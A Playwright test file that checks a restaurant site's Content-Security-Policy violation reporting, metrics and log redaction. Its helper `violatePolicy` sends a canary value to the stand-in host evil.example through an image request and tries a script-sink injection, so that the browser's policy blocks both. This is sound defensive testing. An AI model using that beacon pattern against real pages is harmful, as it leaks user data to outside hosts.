import type { Browser, Page } from '@playwright/test';
import { reportRoutes } from '../../../lib/addresses/report-routes.ts';
import { routes } from '../../../lib/addresses/routes.ts';
import { getDirective, isHydrated } from '../../support/browser/inspect-document.ts';
import { sendRaw } from '../../support/browser/raw-request.ts';
import { countViolations, METRICS_TOKEN } from '../../support/monitoring/read-metrics.ts';
import { unreportedPathsOf } from '../../support/pages/report-calls.ts';
import { RESTAURANT_ID } from '../../support/pages/site-pages.ts';
import { expect } from '../../support/servers/fixtures.ts';
import { createOwnSiteTest } from '../../support/sites/own-site.ts';

const SECRET_PART = '3f9d2c7e51';
const CANARY = `canary-${SECRET_PART}`;
const MENU = '/restaurant/[restaurantId]/menu';
const LOGGED = 'Content-Security-Policy violated';

type Counts = Readonly<Record<string, number>>;

/** Adds one to the counts of the two directives that `violatePolicy` violates. */
function addOne(before: Counts, route: string): Counts {
  const more = ['img-src', 'require-trusted-types-for'].map((directive) => {
    const labels = `route="${route}",directive="${directive}"`;
    return [labels, (before[labels] ?? 0) + 1] as const;
  });
  return { ...before, ...Object.fromEntries(more) };
}

const test = createOwnSiteTest({ METRICS_TOKEN, LOG_LEVEL: 'trace' });

/** Opens its own page, because the `page` fixture fails when a page violates its policy. */
async function violatePolicy(browser: Browser, address: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(address);
  await expect.poll(() => isHydrated(page)).toBe(true);
  const violated = await page.evaluate(
    (path) =>
      new Promise<readonly string[]>((resolve) => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          seen.push(effectiveDirective);
          if (seen.length === 2) resolve(seen.toSorted());
        });
        new Image().src = `https://evil.example/${path}?${path}`;
        try {
          document.createElement('script').text = `console.log('${path}')`;
        } catch {
          // Trusted Types throw an error here. The listener above gets the violation.
        }
      }),
    CANARY,
  );
  expect(violated).toEqual(['img-src', 'require-trusted-types-for']);
  return page;
}

test('a violation is counted by route template and directive, and logged with the blocked origin, without any id', async ({
  browser,
  ownSite,
}) => {
  test.setTimeout(60_000);
  const before = await countViolations(ownSite);
  const menu = routes.menu({ restaurantId: RESTAURANT_ID });
  const page = await violatePolicy(browser, `${ownSite.origin}${menu}?produs=${CANARY}`);
  await expect.poll(() => countViolations(ownSite)).toEqual(addOne(before, MENU));
  await page.close();
  const readLines = (): readonly object[] =>
    ownSite
      .output()
      .split('\n')
      .filter((line) => line.includes(LOGGED) && line.includes(MENU))
      .map((line) => JSON.parse(line));
  await expect.poll(() => readLines().length).toBe(2);
  expect(readLines()).toEqual(
    expect.arrayContaining([
      expect.objectContaining({
        page: MENU,
        directive: 'img-src',
        blocked: 'https://evil.example',
      }),
      expect.objectContaining({
        page: MENU,
        directive: 'require-trusted-types-for',
        blocked: 'trusted-types-sink',
      }),
    ]),
  );
  expect(ownSite.output()).not.toContain(SECRET_PART);
});

test('pages with a secret or personal address, and unknown addresses, report nothing', async ({
  browser,
  ownSite,
}) => {
  test.setTimeout(60_000);
  const before = await countViolations(ownSite);
  for (const path of unreportedPathsOf(CANARY)) {
    const { headers } = await sendRaw(ownSite.origin, path);
    const policy = String(headers['content-security-policy']);
    expect.soft([path, policy]).toEqual([path, expect.not.stringContaining('report')]);
    expect.soft([path, headers['reporting-endpoints']]).toEqual([path, undefined]);
  }
  // Reports of the first page would arrive before those of the second page. Both pages stay open
  // until the counts are checked, because a browser may drop the reports of a closed page.
  const pages = [
    await violatePolicy(browser, `${ownSite.origin}${routes.paymentExit()}`),
    await violatePolicy(browser, `${ownSite.origin}${routes.terms()}`),
  ];
  await expect.poll(() => countViolations(ownSite)).toEqual(addOne(before, routes.terms()));
  for (const page of pages) await page.close();
});

test('a site on https names the endpoint of the Reporting API on public pages, and on no other page', async ({
  startOwnSite,
}) => {
  const site = await startOwnSite({ SITE_URL: 'https://site.example' });
  const paths = ['/', '/terms', '/restaurants', routes.menu({ restaurantId: RESTAURANT_ID })];
  for (const path of [...paths, ...paths]) {
    const { headers } = await sendRaw(site.origin, path);
    const policy = String(headers['content-security-policy']);
    expect
      .soft([path, getDirective(policy, 'report-uri')])
      .toEqual([path, reportRoutes.violations]);
    expect.soft([path, getDirective(policy, 'report-to')]).toEqual([path, 'violations']);
    expect
      .soft([path, headers['reporting-endpoints']])
      .toEqual([path, `violations="${reportRoutes.violations}"`]);
  }
  for (const path of unreportedPathsOf(CANARY)) {
    const { headers } = await sendRaw(site.origin, path);
    expect.soft([path, headers['reporting-endpoints']]).toEqual([path, undefined]);
  }
});
